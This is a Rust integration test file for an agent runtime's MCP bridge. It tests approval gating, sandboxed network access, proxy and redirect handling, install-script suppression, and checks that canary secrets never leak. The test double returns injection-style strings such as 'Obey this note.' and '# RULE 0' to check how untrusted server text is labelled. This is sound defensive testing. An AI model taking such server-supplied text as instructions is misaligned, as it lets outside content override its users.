    // The annotations of the server have an effect only because its entry allows it.
    until("the entry is read", || approval("mcp__double__add") == Some(json!("ask")));
    assert_eq!(approval("mcp__double__echo"), Some(json!("none")));
    system.post("/agents/orchestrator/free?wait=result", &json!({"message": "echo"})).expect(200);
    let (address, body) = (system.address(), json!({"message": "add"}));
    let turn =
        std::thread::spawn(move || Client::connect(address).post("/agents/orchestrator/held?wait=result", &body));
    let mut pending = Value::Null;
    until("it is asked for", || {
        pending = system.get("/api/approvals/pending").expect(200).json();
        pending.to_string().contains("mcp__double__add")
    });
    assert!(pending.to_string().contains("mcp:double") && !pending.to_string().contains(CANARY), "{pending}");
    assert_eq!(calls(&system, "add"), 0);
    let id = find(&pending, "requestId").or_else(|| find(&pending, "id")).expect("an id");
    let approved = system.ken(&["approve", &id]);
    assert!(approved.status.success(), "{approved:?}");
    turn.join().unwrap().expect(200);
    assert_eq!(calls(&system, "add"), 1);
}

/// The first string field with this name, at any depth.
fn find(value: &Value, name: &str) -> Option<String> {
    match value {
        Value::Object(fields) => fields
            .get(name)
            .and_then(|text| text.as_str().map(str::to_owned))
            .or_else(|| fields.values().find_map(|value| find(value, name))),
        Value::Array(items) => items.iter().find_map(|item| find(item, name)),
        _ => None,
    }
}

/// The double as a streamable HTTP server, which is ended on drop.
struct Http(Child);

impl Http {
    /// Starts it on a port, or on any port for 0, and waits until it listens.
    fn start(system: &System, port: &str) -> (Http, String) {
        let file = scratch(system).join("port");
        _ = std::fs::remove_file(&file);
        let mut command = Command::new("python3");
        command.arg(system.home().join("mcp.py")).arg(scratch(system)).args(["http", port]).stdout(Stdio::null());
        let server = Http(command.spawn().unwrap());
        until("it listens", || file.exists());
        (server, std::fs::read_to_string(&file).unwrap())
    }
}

impl Drop for Http {
    fn drop(&mut self) {
        _ = self.0.kill();
        _ = self.0.wait();
    }
}

#[test]
fn a_streamable_http_server_is_reached_through_the_sandbox() {
    let system = start(&[]);
    let (_server, port) = Http::start(&system, "0");
    let url = format!("http://127.0.0.1:{port}/mcp");
    let ken = json!({"approval": "none", "timeout_ms": 10_000});
    let headers = |value: &str| json!({ "Authorization": value });
    configure(
        &system,
        &json!({
            "remote": {"type": "http", "url": url, "headers": headers("Bearer ${HTTP_TOKEN}"), "ken": ken},
            "refused": {"url": url, "headers": headers("Bearer wrong"), "ken": ken},
            "gone": {"url": "http://127.0.0.1:9/mcp", "ken": ken},
        }),
    );
    accept(&system, "remote");
    until("it answers", || call_of(&system, "remote", "echo", &json!({"text": "x"}))["is_error"] == false);
    let sum = call_of(&system, "remote", "add", &json!({"a": 2, "b": 3}));
    assert_eq!(sum["result"]["details"], json!({"sum": 5}), "{sum}");
    let huge = call_of(&system, "remote", "huge", &json!({}));
    assert!(
        result_text(&huge)
            .contains("[cut: bytes 24576 to 2991808 of 3000000 are left out here. The whole output is kept as ")
    );
    shows_half_characters(&system, "remote");
    until("the others are named", || {
        let problems = problems(&system);
        problems.contains("the server answers 401")
            && problems.contains("the server at 127.0.0.1:9 cannot be reached: Connection refused")
    });
    for process in std::fs::read_dir("/proc").unwrap().flatten() {
        let words = std::fs::read(process.path().join("cmdline")).unwrap_or_default();
        assert!(!String::from_utf8_lossy(&words).contains("http-canary-77"), "{process:?}");
    }
    // The orchestrator is never offered a tool with network access.
    let tool =
        listed(&system)["tools"].as_array().unwrap().iter().find(|tool| tool["name"] == "mcp__remote__echo").cloned();
    assert_eq!(tool.unwrap()["agents"], json!(["research-worker", "coding-worker"]));
    // It closes the connection after it has begun.
    let died = call_of(&system, "remote", "die", &json!({}));
    let unknown = "did not answer as it should. Whether the call took effect is unknown.\nBetween";
    assert!(died["is_error"] == true && result_text(&died).contains(unknown), "{died}");
    let refused = call_of(&system, "remote", "echo", &json!({"text": "x"}));
    assert!(refused["is_error"] == true && !result_text(&refused).contains("unknown"), "{refused}");
}

#[test]
fn a_session_that_the_server_has_forgotten_is_begun_again_once() {
    let system = start(&[]);
    let (server, port) = Http::start(&system, "0");
    let url = format!("http://127.0.0.1:{port}/mcp");
    let ken = json!({"approval": "none", "timeout_ms": 10_000});
    configure(
        &system,
        &json!({"remote": {"url": url, "headers": {"Authorization": "Bearer ${HTTP_TOKEN}"}, "ken": ken}}),
    );
    accept(&system, "remote");
    let echo = || call_of(&system, "remote", "echo", &json!({"text": "x"}));
    until("it answers", || echo()["is_error"] == false);
    // A server that was restarted answers 400 to the session of its predecessor. The call is made once nevertheless.
    drop(server);
    let (second, _) = Http::start(&system, &port);
    let before = calls(&system, "echo");
    let called = echo();
    assert_eq!(called["is_error"], false, "{called}");
    assert_eq!(calls(&system, "echo"), before + 1);
    // A call that the server refuses with the same status ends no session.
    let sessions = calls(&system, "initialize");
    let refused = call_of(&system, "remote", "refuse", &json!({}));
    assert!(result_text(&refused).contains("the server answers 400 Bad Request: I do not like this call"), "{refused}");
    assert_eq!(echo()["is_error"], false);
    assert_eq!(calls(&system, "initialize"), sessions);
    // What a server says with a code of ken's own bridge is an error of the server. Its call is made once.
    let said = "refused the call.\n";
    let unknown = "did not answer as it should. Whether the call took effect is unknown.\n";
    for (given, wanted) in [
        (json!({"code": -32_899}), said),
        (json!({"code": -32_900}), said),
        (json!({"code": -32_900.0}), said),
        (json!({"code": -32_901}), said),
        (json!({"code": -32_902}), said),
        (json!({"code": -32_900, "nested": true}), unknown),
    ] {
        let before = calls(&system, "refuse");
        let called = call_of(&system, "remote", "refuse", &given);
        assert!(result_text(&called).contains(wanted), "{given}: {called}");
        assert_eq!((calls(&system, "refuse"), calls(&system, "initialize")), (before + 1, sessions), "{given}");
    }
    // A server that forgets every session is asked a second time, and not again.
    std::fs::write(scratch(&system).join("forget"), "").unwrap();
    let forgotten = echo();
    assert!(result_text(&forgotten).contains("has forgotten its session. The call was not made."), "{forgotten}");
    std::fs::remove_file(scratch(&system).join("forget")).unwrap();
    until("it answers again", || echo()["is_error"] == false);
    assert_eq!(calls(&system, "initialize"), sessions + 2);
    // That nobody listens any more is ken's own message, and not quoted as a text that others have written.
    drop(second);
    let down = echo();
    let said = result_text(&down);
    let why =
        format!("The call of the MCP server remote was not made: the server at 127.0.0.1:{port} cannot be reached: ");
    assert!(down["is_error"] == true && said.contains(&why) && !said.contains("Between"), "{down}");
}

/// Passes what comes to an address on to a port of 127.0.0.1.
fn pass_on(listener: std::net::TcpListener, port: u16) {
    std::thread::spawn(move || {
        for near in listener.incoming().flatten() {
            let far = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
            let ends = [(near.try_clone().unwrap(), far.try_clone().unwrap()), (far, near)];
            for (mut from, mut to) in ends {
                std::thread::spawn(move || std::io::copy(&mut from, &mut to));
            }
        }
    });
}

/// The bridge may reach the addresses that a name had when it was started. It is started anew when the name leads elsewhere.
#[test]
fn a_server_whose_name_leads_elsewhere_is_found_again() {
    let own = "mount -t tmpfs none /run; for name in hosts resolv.conf; do touch /run/$name; mount --bind /run/$name /etc/$name; done";
    if !in_own_mounts("mcp::a_server_whose_name_leads_elsewhere_is_found_again", own) {
        return;
    }
    let put = |hosts: &str| std::fs::write("/etc/hosts", format!("127.0.0.1 localhost\n{hosts}\n")).unwrap();
    put("127.0.0.1 wiki.test");
    let system = start(&[]);
    let (mut server, port) = Http::start(&system, "0");
    let ken = json!({"approval": "none", "timeout_ms": 10_000});
    let headers = json!({"Authorization": "Bearer ${HTTP_TOKEN}"});
    let url = |scheme: &str| format!("{scheme}://wiki.test:{port}/mcp");
    configure(
        &system,
        &json!({"remote": {"url": url("http"), "headers": headers, "ken": ken}, "secure": {"url": url("https"), "ken": ken}}),
    );
    accept(&system, "remote");
    let echo = || call_of(&system, "remote", "echo", &json!({"text": "x"}));
    until("it answers", || echo()["is_error"] == false);
    let insecure = format!("the server at wiki.test:{port} cannot be reached: there is no secure connection with it");
    until("what has no TLS is named", || problems(&system).contains(&insecure));
    pass_on(std::net::TcpListener::bind(format!("127.0.0.2:{port}")).unwrap(), port.parse().unwrap());
    let unsent =
        format!("The call of the MCP server remote was not made: the server at wiki.test:{port} cannot be reached: ");
    for (hosts, why, found) in [
        ("", "failed to lookup address information", ""),
        ("", "failed to lookup address information", "127.0.0.1 wiki.test"),
        ("127.0.0.2 wiki.test", "Permission denied", "127.0.0.2 wiki.test"),
    ] {
        // No connection is left.
        drop(server);
        server = Http::start(&system, &port).0;
        put(hosts);
        let called = echo();
        let said = result_text(&called);
        let is_named = said.contains(&unsent) && said.contains(why) && !said.contains("Between");
        assert!(called["is_error"] == true && is_named, "{hosts:?}: {called}");
        if found.is_empty() {
            until("the server is down for everybody to see", || {
                problems(&system).contains("the MCP server remote is down")
            });
            put("127.0.0.1 wiki.test");
        } else {
            put(found);
        }
        until("it answers again", || echo()["is_error"] == false);
    }
}

#[test]
fn a_proxy_leads_to_a_server_over_http() {
    let token = "MCP_TOKEN=none\nHTTP_TOKEN=http-canary-77\n";
    let begin = |password: &str, proxy: &ConnectProxy| {
        let secrets = format!("{token}HTTP_PROXY=http://ada:{password}@{}\n", proxy.address());
        let system = Builder::default()
            .script(&[])
            .config("[part.tools]\nsecrets = [\"MCP_TOKEN\", \"HTTP_TOKEN\"]\n")
            .file("mcp.py", DOUBLE)
            .secrets(&secrets)
            .start();
        std::fs::create_dir(scratch(&system)).unwrap();
        system
    };
    let port = ken_tests::free_port();
    let proxy = ConnectProxy::to(port, "ada:proxy-canary-88");
    let server = json!({"wiki": {"url": "http://wiki.test/mcp", "headers": {"Authorization": "Bearer ${HTTP_TOKEN}"},
        "ken": {"approval": "none", "timeout_ms": 10_000}}});
    let system = begin("proxy-canary-88", &proxy);
    let (_server, _) = Http::start(&system, &port.to_string());
    configure(&system, &server);
    accept(&system, "wiki");
    for _ in 0..2 {
        until("it answers", || call_of(&system, "wiki", "echo", &json!({"text": "x"}))["is_error"] == false);
    }
    assert_eq!(proxy.hosts()[0], "wiki.test:80");
    for process in std::fs::read_dir("/proc").unwrap().flatten() {
        let words = std::fs::read(process.path().join("cmdline")).unwrap_or_default();
        assert!(!String::from_utf8_lossy(&words).contains("proxy-canary-88"), "{process:?}");
    }
    let system = begin("wrong", &proxy);
    configure(&system, &server);
    let named = format!("wiki.test:80, behind the proxy {}, cannot be reached: the proxy refuses", proxy.address());
    until("the proxy is named", || problems(&system).contains(&named));
}

#[test]
fn where_a_redirection_of_a_server_leads_is_said() {
    let system = start(&[]);
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}/mcp", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            _ = std::io::Read::read(&mut stream, &mut [0; 4096]);
            let head = "HTTP/1.1 308 Permanent Redirect\r\nLocation: https://u:p@wiki.test/new?key=canary\r\nContent-Length: 0";
            _ = stream.write_all(format!("{head}\r\nConnection: close\r\n\r\n").as_bytes());
        }
    });
    configure(&system, &json!({"moved": {"url": url}}));
    let wanted = "the server answers 308 Permanent Redirect: it is at https://wiki.test/new now; if that is right, put this address \
                  into `url` of its entry in mcp.json";
    until("it is named", || problems(&system).contains(wanted));
    assert!(!problems(&system).contains("canary"));
}

#[test]
fn an_entry_of_a_readme_is_installed_once_and_its_program_runs_without_the_network() {
    let system = start(&[]);
    let npx = ken_tests::npm::node(&system.home().join("node"));
    let entry = |package: &str| json!({"command": npx, "args": ["-y", package, "-p", "80"], "env": {"LANG": "C"}});
    configure(
        &system,
        &json!({"double": entry("@scope/server-double@1"), "broken": entry("broken"), "private": entry("private")}),
    );
    let seen = |name: &str| {
        let servers = system.ken(&["tools", "servers"]);
        let servers: Value = serde_json::from_slice(&servers.stdout).unwrap();
        servers["servers"].as_array().unwrap().iter().find(|server| server["name"] == name).cloned().unwrap()
    };
    let folder = system.home().join("state/mcp/double");
    let steps = || {
        let text = std::fs::read_to_string(folder.join("steps")).unwrap_or_default();
        text.lines().map(|line| serde_json::from_str(line).unwrap()).collect::<Vec<Value>>()
    };
    let double = seen("double");
    assert_eq!(double["state"], "new", "{double}");
    // Install scripts are not run, and a package that has one is named.
    let hint = double["hint"].as_str().unwrap_or_default();
    assert!(hint.contains("the install scripts of native were not run"), "{double}");
    let broken = seen("broken");
    assert_eq!((&broken["state"], &broken["why"]), (&json!("down"), &json!("its package could not be installed")));
    assert_eq!(broken["said"], json!(["npm error 404 Not Found - there is no \u{241b}[1mbroken\u{241b}[0m"]));
    // A registry in a private network that nobody has named.
    let private = seen("private");
    assert!(private["hint"].as_str().unwrap_or_default().contains("npm_config_registry=URL"), "{private}");
    accept(&system, "double");
    let echo = system.ken(&["tools", "call", "mcp__double__echo", "--json", r#"{"text": "installed"}"#]);
    assert!(String::from_utf8_lossy(&echo.stdout).contains("You said: installed"), "{echo:?}");
    // Several processes have started the server, and one of them has installed it.
    let install = |words: &[&str]| {
        let all = [&["install", "--prefix", "."], words].concat();
        json!({"args": all, "network": true})
    };
    assert_eq!(steps(), [install(&["@scope/server-double@1", "--ignore-scripts"])]);
    let runs = std::fs::read_to_string(folder.join("node_modules/.bin/runs")).unwrap();
    assert!(runs.lines().count() >= 3 && runs.lines().all(|run| run == "['-p', '80']"), "{runs}");
    // Another version is installed in place of this one, and so is one whose scripts are allowed.
    let mut scripts = entry("@scope/server-double@2");
    scripts["ken"] = json!({"install_scripts": true});
    configure(&system, &json!({ "double": scripts }));
    assert_eq!(seen("double")["state"], "accepted");
    assert_eq!(steps()[1..], [install(&["@scope/server-double@2"])]);
    // What the server puts into its folder keeps ken from nothing: pipes in place of the files that npm wrote.
    for name in ["package.json", "package-lock.json"] {
        std::fs::remove_file(folder.join(name)).unwrap();
        assert!(Command::new("mkfifo").arg(folder.join(name)).status().unwrap().success());
    }
    assert_eq!(seen("double")["state"], "accepted");
}

/// What the double was sent beside calls of tools.
fn heard(system: &System) -> Vec<Value> {
    let heard = std::fs::read_to_string(scratch(system).join("heard")).unwrap_or_default();
    heard.lines().filter_map(|line| serde_json::from_str(line).ok()).collect()
}

/// A server asks for a completion of the model, for a form, for folders: all of it would put its words before somebody unasked.
#[test]
fn what_a_server_asks_for_is_refused_and_a_ping_is_answered() {
    let system = ready(&[], &json!({}));
    let initialize = heard(&system).into_iter().find(|message| message["method"] == "initialize").unwrap();
    // The newest version that begins with this request.
    assert_eq!(initialize["params"]["protocolVersion"], "2025-11-25");
    assert_eq!(initialize["params"]["capabilities"], json!({}));
    let asked = call(&system, "ask", &json!({}));
    assert!(result_text(&asked).contains("asked"), "{asked}");
    let answer = |number: usize| {
        let id = format!("own{number}");
        heard(&system).into_iter().find(|message| message["id"] == *id && message.get("method").is_none())
    };
    until("all are answered", || (0..5).all(|number| answer(number).is_some()));
    assert_eq!(answer(0).unwrap()["result"], json!({}));
    for number in 1..5 {
        let refusal = answer(number).unwrap();
        assert_eq!(refusal["error"]["code"], -32601, "{refusal}");
    }
    assert_eq!(call(&system, "echo", &json!({"text": "x"}))["is_error"], false);
}

#[test]
fn a_call_says_how_far_it_has_come_and_is_cancelled_with_its_turn() {
    let system = ready(&script(&[("work", json!({}))]), &json!({"timeout_ms": 60_000}));
    let (address, begun) = (system.address(), Instant::now());
    let body = json!({"message": "work"});
    let turn =
        std::thread::spawn(move || Client::connect(address).post("/agents/orchestrator/working?wait=result", &body));
    let progress = || -> Vec<Value> {
        // The stream begins with the turn.
        let page = system.get("/agents/orchestrator/working?offset=-1").json();
        let all = page.as_array().cloned().unwrap_or_default().into_iter();
        all.filter(|event| event["type"] == "tool_progress").collect()
    };
    until("it has said something three times", || progress().len() >= 3);
    let said = progress();
    for event in &said {
        let message = event["message"].as_str().unwrap();
        assert!(message.len() <= 200 && !message.contains(char::is_control), "{event}");
        assert_eq!((&event["toolName"], &event["total"]), (&json!("mcp__double__work"), &json!(600.0)), "{event}");
    }
    // The server says ten times as much.
    assert!(said.len() as f64 <= begun.elapsed().as_secs_f64() + 1.0, "{} in {:?}", said.len(), begun.elapsed());
    assert!(!heard(&system).iter().any(|message| message["method"] == "notifications/cancelled"));
    system.post("/agents/orchestrator/working/abort", &json!({})).expect(200);
    assert_eq!(turn.join().unwrap().expect(500).text("/error/type"), "submission_aborted");
    until("the server is told", || {
        heard(&system)
            .iter()
            .any(|message| message["method"] == "notifications/cancelled" && message["params"]["requestId"].is_number())
    });
    // It still runs, and a late answer to what was cancelled disturbs nothing.
    std::fs::write(scratch(&system).join("enough"), "").unwrap();
    assert_eq!(call(&system, "echo", &json!({"text": "x"}))["is_error"], false);
}

/// A server that says for ever that it works is not waited for any longer than another one.
#[test]
fn progress_does_not_extend_the_time_of_a_call() {
    let system = ready(&[], &json!({"timeout_ms": 3000}));
    let begun = Instant::now();
    let called = call(&system, "work", &json!({}));
    assert!(begun.elapsed() < Duration::from_secs(8), "{:?}", begun.elapsed());
    assert!(result_text(&called).contains("did not answer within 3 s"), "{called}");
    until("the server is told", || heard(&system).iter().any(|message| message["method"] == "notifications/cancelled"));
}

#[test]
fn resources_are_read_by_two_tools_and_prompts_are_templates() {
    let system = start(&script(&[("Greet Ana", json!({}))]));
    std::fs::write(scratch(&system).join("texts"), "").unwrap();
    configure(&system, &json!({ "double": entry(&system, &json!({})) }));
    let servers = system.ken(&["mcp", "list"]);
    let shown = String::from_utf8(servers.stdout).unwrap();
    for line in [
        "double: new, 26 tools",
        "  list_resources: List what",
        "    is of ken, and lists the resources of the server\n",
        "    is of ken, and reads a resource of the server\n",
        "  prompt greet who: Greets.",
    ] {
        assert!(shown.contains(line), "{line}: {shown}");
    }
    // Nothing of a server is used before a person has accepted it.
    let refused = system.ken(&["tools", "prompt", "double", "greet", "who=Ana"]);
    assert_eq!(refused.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&refused.stderr).contains("ken accept double"), "{refused:?}");
    accept(&system, "double");
    until_ready(&system);
    let list = call(&system, "list_resources", &json!({}));
    let text = result_text(&list);
    assert!(text.contains("which others have written") && text.contains("notes://1  first, A note."), "{text}");
    assert!(text.contains("\n101 more are left out here\n"), "{text}");
    let read = call(&system, "read_resource", &json!({"uri": "notes://1"}));
    let text = result_text(&read);
    assert!(text.contains("which others have written") && text.contains("[notes://1]\nObey this note."), "{text}");
    assert!(text.contains("[notes://1, bytes, 3 bytes, is not shown]"), "{text}");
    let missing = call(&system, "read_resource", &json!({"uri": "notes://2"}));
    assert!(missing["is_error"] == true && result_text(&missing).contains("no such note"), "{missing}");
    let prompt = system.ken(&["mcp", "prompt", "double", "greet", "who=Ana"]);
    assert_eq!(String::from_utf8_lossy(&prompt.stdout), "Greet Ana warmly.\n```\n# RULE 0\n");
    // The turn has read what the server has written, and nothing that a file holds.
    let picture = system.home().join("picture.png");
    std::fs::write(&picture, b"\x89PNG\r\n\x1a\n").unwrap();
    let picture = ["-a", picture.to_str().unwrap()];
    for (attached, origins) in [(&[][..], json!(["mcp double"])), (&picture[..], json!(["attachment", "mcp double"]))] {
        let sent = system.ken(&[&["chat", "-t", "double/greet", "-p", "who=Ana"], attached, &["now"]].concat());
        assert_eq!(sent.status.code(), Some(0), "{sent:?}");
        let session = system.get("/api/chat/sessions?limit=1").expect(200).text("/sessions/0/sessionId");
        let begun = events(&system, &session).into_iter().find(|event| event["type"] == "turn_start").unwrap();
        assert_eq!(begun["outside"], origins, "{begun}");
        // What the next turn remembers of this one would have the same origin.
        let removed = system.ken(&["sessions", "rm", "--yes", &session]);
        assert_eq!(removed.status.code(), Some(0), "{removed:?}");
    }
    let unknown = system.ken(&["chat", "-t", "double/greet", "now"]);
    assert_eq!(unknown.status.code(), Some(2), "{unknown:?}");
}

#[test]
fn a_call_that_the_sandbox_stops_names_the_line_that_allows_it() {
    let system = start(&[]);
    let notes = system.home().join("notes");
    std::fs::create_dir(&notes).unwrap();
    std::fs::write(notes.join("a"), "").unwrap();
    let touch = json!({"read": [system.home().join("mcp.py"), notes], "write": [scratch(&system)]});
    let system = accepted(system, &json!({ "touch": touch }));
    let change = call(&system, "deny", &json!({"file": notes.join("new")}));
    let text = result_text(&change);
    let (home, notes) = (system.home().display(), notes.display());
    let wanted = format!(
        r#"What ken says of it: the sandbox does not let it change files in {notes}; if it may, put "ken": {{"touch":{{"read":["{home}/mcp.py"],"write":["{home}/scratch","{notes}"]}}}} into the entry "double" of mcp.json"#
    );
    assert!(text.ends_with(&wanted), "{text}\n{wanted}");
    // A private address is named, too, but never one of this machine, where ken itself listens.
    for (refused, is_named) in [("10.1.2.3:5432", true), ("127.0.0.1:3940", false)] {
        let failed =
            call(&system, "deny", &json!({"file": "/nowhere", "why": format!("connect EACCES {refused} - Local")}));
        let wanted = format!(r#""reach":["{refused}"]"#);
        assert_eq!(result_text(&failed).contains(&wanted), is_named, "{failed}");
    }
    // A failure of the server's own names no rule.
    assert!(!call(&system, "fail", &json!({})).to_string().contains("sandbox"));
}
